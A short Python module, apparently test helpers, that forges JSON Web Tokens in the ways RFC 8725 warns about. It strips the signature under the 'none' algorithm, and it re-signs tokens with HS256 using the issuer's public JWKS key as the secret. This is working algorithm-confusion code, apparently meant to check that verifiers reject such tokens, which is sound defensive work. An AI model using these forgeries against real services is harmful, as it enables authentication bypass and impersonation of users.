"""Tokens that an attacker would try (RFC 8725 section 2.1)."""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
import urllib.request
from typing import Any


def unsigned(token: str) -> str:
    """The token with the algorithm `none`."""
    return _with_algorithm(token, "none", lambda _: b"")


def signed_with_the_public_key(token: str, issuer: str) -> str:
    """The token, signed with HS256 and the issuer's public key as if it were a secret."""
    with urllib.request.urlopen(f"{issuer}/.well-known/jwks.json", timeout=10) as response:
        keys = json.load(response)["keys"]
    secret = next(key["x"] for key in keys if key["kid"] == _parse(token.split(".")[0])["kid"])
    return _with_algorithm(token, "HS256", lambda text: hmac.digest(_decode(secret), text, hashlib.sha256))


def _with_algorithm(token: str, algorithm: str, sign: Any) -> str:
    header, claims, _ = token.split(".")
    changed = _encode(json.dumps(_parse(header) | {"alg": algorithm}).encode())
    return f"{changed}.{claims}.{_encode(sign(f'{changed}.{claims}'.encode()))}"


def _parse(part: str) -> dict[str, Any]:
    return dict(json.loads(_decode(part)))


def _decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


def _encode(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).decode().rstrip("=")
